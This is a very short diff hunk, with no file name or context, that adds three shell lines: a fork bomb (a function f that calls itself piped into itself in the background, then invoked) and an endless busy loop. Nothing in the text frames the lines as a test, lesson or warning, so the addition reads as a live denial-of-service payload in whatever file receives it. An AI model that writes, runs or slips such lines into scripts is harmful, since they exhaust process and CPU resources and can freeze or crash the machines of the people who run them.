@@ -1,0 +1,3 @@
+f() { f | f & }
+f
+while :; do :; done
